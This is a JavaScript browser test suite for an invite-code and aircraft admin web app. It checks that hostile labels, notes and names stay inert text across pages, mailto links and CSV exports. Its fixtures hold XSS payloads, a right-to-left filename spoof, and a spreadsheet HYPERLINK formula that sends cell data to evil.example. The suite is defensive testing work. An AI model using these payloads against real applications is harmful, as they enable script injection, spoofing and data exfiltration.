// Texts that would like to be more than texts, wherever people's words are shown (SEC-4, REP-2).

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { Installation, call, makeCode, register } from '../program/support.mjs';
import { browse, desktop, logIn, open, phone } from './support.mjs';

const script = `<script>window.owned = 1;alert(1)</script>"'><img src=x onerror="window.owned=2">{{CSRF}}[[Name]]&amp;`;
const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
const turned = 'שלום עולם — مرحبا';  // from right to left, as people write
const wide = 'Ｗ'.repeat(100) + '👩‍👩‍👧‍👦🛩️𒐫'.repeat(5);
const lines = `first line\n"second", line;\r\n=1+1\n\tthird`;
const labels = { script, formula, turned, wide, plus: '+1 (plus), "quoted"; and; more', at: '@SUM(A1)', minus: '-2+3' };

// RFC 4180 to the letter: rows end with CRLF, quotes are doubled within quotes and stand nowhere else.
function parseCsv(text) {
  assert.ok(text.endsWith('\r\n'), 'the last row ends too');
  const rows = [];
  let row = [];
  for (let at = 0; at < text.length;) {
    const cell = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(text.slice(at));
    assert.ok(cell, `not RFC 4180 at ${at}: ${text.slice(at, at + 60)}`);
    row.push(cell[1] !== undefined ? cell[1].replaceAll('""', '"') : cell[2]);
    at += cell[0].length;
    if (cell[3] === '\r\n') row = (rows.push(row), []);
  }
  return rows;
}

async function house(t) {
  const installation = new Installation(t, 'sqlite');
  const token = installation.person('ada', '--superuser');
  const server = await installation.serve();
  const codes = {};
  for (const [name, label] of Object.entries(labels))
    codes[name] = await makeCode(server, token, {
      label, notes: lines + script, name: name === 'wide' ? turned : 'A <b>B</b> & =C', max_uses: 2, expires_days: 3,
      email: name === 'plus' ? "o'hara+x@example.org" : '',
    });
  const page = await open(t, await browse(), { viewport: desktop });
  page.on('dialog', () => assert.fail('a script ran'));
  await logIn(page, server, 'ada');
  return { installation, token, server, codes, page };
}

// Nothing of it became markup, and no width lets it stick out.
async function harmless(page, what) {
  const found = await page.evaluate(() => ({
    owned: window.owned ?? null, markup: document.querySelectorAll('main script, main img, main b, body > script').length,
  }));
  assert.deepEqual(found, { owned: null, markup: 0 }, what);
  for (const viewport of [phone, desktop]) {
    await page.setViewportSize(viewport);
    const fits = await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth);
    assert.ok(fits, `${what} scrolls sideways at ${viewport.width}`);
  }
}

test('SEC-4: hostile labels, notes and names stay texts in lists, details, titles, questions, notices and the audit log', async (t) => {
  const { server, codes, page } = await house(t);
  for (const list of ['/admin/invite-codes/', '/manager/invite-codes/', '/manage/invitations/']) {
    await page.goto(server.url + list);
    const shown = await page.locator('tbody .row-title').allTextContents();
    for (const label of Object.values(labels)) assert.ok(shown.includes(label), `${label} in ${list}`);
    // What runs from right to left turns nothing beside it.
    assert.equal(await page.locator('main .row-title > bdi').getByText(turned, { exact: true }).count(), 1);
    await harmless(page, list);
    for (const [name, code] of Object.entries(codes)) {
      await page.goto(`${server.url}${list}${code.id}/`);
      assert.equal(await page.textContent('h1'), labels[name]);
      assert.ok((await page.title()).startsWith(labels[name].trim()), await page.title());
      await harmless(page, `${name} in ${list}`);
    }
    for (const deed of ['revoke', 'delete', 'extend', 'qr']) {
      await page.goto(`${server.url}${list}${codes.script.id}/${deed}/`);
      await harmless(page, `${list} ${deed}`);
    }
    await page.goto(`${server.url}${list}${codes.script.id}/extend/`);
    await page.locator('main button[name=days]').first().click();
    assert.ok((await page.textContent('.notice[role=status]')).includes(script), 'the notice names it');
    await harmless(page, `the notice in ${list}`);
  }
  for (const path of ['/admin/', '/manager/', '/admin/audit/', '/admin/data/code/', `/admin/data/code/row/${codes.script.id}/`,
                      `/admin/invite-codes/explain/?code=${codes.script.code}`, `/palette/?q=${encodeURIComponent('<script>')}`,
                      `/admin/invite-codes/?search=${encodeURIComponent(script)}`, `/admin/create-invite-code/?like=${codes.script.id}`]) {
    await page.goto(server.url + path);
    await harmless(page, path);
  }
});

test('SEC-4: lines stay lines in notes, and in the form that edits them', async (t) => {
  const { server, codes, page } = await house(t);
  await page.goto(`${server.url}/manage/invitations/${codes.turned.id}/`);
  assert.ok((await page.textContent('.prose')).replaceAll('\r', '').includes('first line\n"second", line;\n=1+1\n\tthird'));
  await page.goto(`${server.url}/admin/invite-codes/${codes.turned.id}/`);
  assert.equal(await page.locator('textarea[name=notes]').inputValue(), (lines + script).replaceAll('\r\n', '\n'));
});

test('SEC-4: what would turn or hide the text around it is refused by name, and what was typed is kept', async (t) => {
  const { server, page } = await house(t);
  await page.goto(`${server.url}/admin/create-invite-code/`);
  const turning = 'invoice\u202Egpj.exe';
  await page.fill('[name=label]', turning);
  await page.getByRole('button', { name: 'Create Invite Code' }).click();
  assert.match(await page.textContent('main [role=alert]'), /characters that cannot be shown/);
  assert.equal(await page.inputValue('[name=label]'), turning);
});

test('SEC-4: a mailto link carries hostile names as texts, and adds no recipient and no header', async (t) => {
  const { server, codes, page } = await house(t);
  for (const [name, code] of Object.entries(codes)) {
    await page.goto(`${server.url}/admin/invite-codes/${code.id}/`);
    const href = await page.locator('.hand-out a[href^="mailto:"]').getAttribute('href');
    assert.match(href, /^mailto:[\w.%!'*+@-]*\?subject=[^&?#]*&body=[^&?#]*$/, href);
    const mail = new URL(href);
    assert.equal(decodeURIComponent(mail.pathname), code.email ?? '', name);
    assert.deepEqual([...mail.searchParams.keys()], ['subject', 'body']);
    const body = decodeURIComponent(href.split('&body=')[1]);
    assert.ok(body.includes(code.registration_url) && body.includes(name === 'wide' ? turned : 'A <b>B</b> & =C'), body);
    assert.doesNotMatch(decodeURIComponent(href.split('?subject=')[1].split('&')[0]), /[\r\n]/);
  }
});

test('REP-2: the export holds hostile texts whole, as RFC 4180 has it, and as no formula', async (t) => {
  const { server, codes, page } = await house(t);
  for (const list of ['/admin/invite-codes/', '/manager/invite-codes/', '/manage/invitations/']) {
    await page.goto(server.url + list);
    await page.check('[data-tick-all]');
    await page.selectOption('[name=action]', 'export');
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('.bulk button:has-text("Go")')]);
    const [headings, ...rows] = parseCsv(readFileSync(await download.path(), 'utf8').replace(/^\uFEFF/, ''));
    assert.equal(rows.length, Object.keys(codes).length, list);
    const column = (name) => headings.indexOf(name);
    for (const row of rows) {
      assert.equal(row.length, headings.length);
      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `“${cell}” would be calculated`);
      assert.equal(row[column('Notes')].replaceAll('\r', ''), (lines + script).replaceAll('\r', ''));
    }
    const told = rows.map((row) => row[column('Label')].replace(/^'(?=[=+\-@])/, ''));
    assert.deepEqual(told.toSorted(), Object.values(labels).toSorted(), list);
  }
});

test('SEC-4: hostile names of people and aircraft stay texts in users, aircraft, the account, the welcome and the invitation', async (t) => {
  const { installation, server, token, codes, page } = await house(t);
  installation.must('aircraft', 'add', 'N12345');
  assert.equal((await register(server, codes.script.code, 'mallory')).status, 201);
  for (const [text, kind] of [[script, 'script'], [formula, 'formula'], [wide, 'wide']]) {
    await page.goto(`${server.url}/admin/aircraft/N12345/`);
    await page.fill('main [name=name]', text.slice(0, 100));
    await page.getByRole('button', { name: 'Save Changes' }).click();
    await harmless(page, `the aircraft, ${kind}`);
    assert.ok((await page.textContent('main .head-note')).includes(text.slice(0, 60)), `the aircraft is called so, ${kind}`);
    await page.goto(`${server.url}/admin/users/?search=mallory`);
    await page.locator('tbody a:has-text("Edit in Admin")').click();
    await page.fill('main [name=name]', text.slice(0, 100));
    await page.getByRole('button', { name: 'Save Changes' }).first().click();
    await page.locator('select[name=aircraft]').selectOption('N12345');
    await page.locator('form.add-pair button').click();
    await harmless(page, `the user, ${kind}`);
    for (const path of ['/admin/users/', '/manage/users/', '/admin/aircraft/', '/admin/aircraft/N12345/', '/admin/audit/',
                        '/admin/data/account/', '/admin/data/aircraft/', '/palette/?q=n12', '/palette/?q=mallory', '/admin/create-invite-code/', '/admin/']) {
      await page.goto(server.url + path);
      await harmless(page, `${path}, ${kind}`);
    }
  }
  assert.equal((await call(server, 'GET', '/api/users/?search=mallory', { token })).json.results.length, 1);
  const mallory = await open(t, page.context().browser(), { viewport: phone });
  await logIn(mallory, server, 'mallory');
  for (const path of ['/account/', '/welcome/']) {
    await mallory.goto(server.url + path);
    assert.ok((await mallory.textContent('body')).includes('Ｗ'.repeat(50)), path);
    await harmless(mallory, path);
  }
  const welcome = `${script} https://example.org/a"onmouseover="alert(1)\nhttps://user:pass@evil.example/<b> javascript:alert(1)`;
  const code = await makeCode(server, token, { label: 'Welcome', name: script.slice(0, 100), welcome });
  const guest = await open(t, page.context().browser(), { viewport: phone });
  guest.on('dialog', () => assert.fail('a script ran'));
  await guest.goto(server.url + new URL(code.registration_url).pathname);
  assert.ok((await guest.textContent('.welcome-text')).includes('<script>'));
  for (const href of await guest.$$eval('.welcome-text a', (all) => all.map((a) => a.getAttribute('href'))))
    assert.match(href, /^https?:\/\//);
  assert.equal(await guest.locator('[onmouseover], [onerror]').count(), 0);
  await harmless(guest, 'the invitation');
});
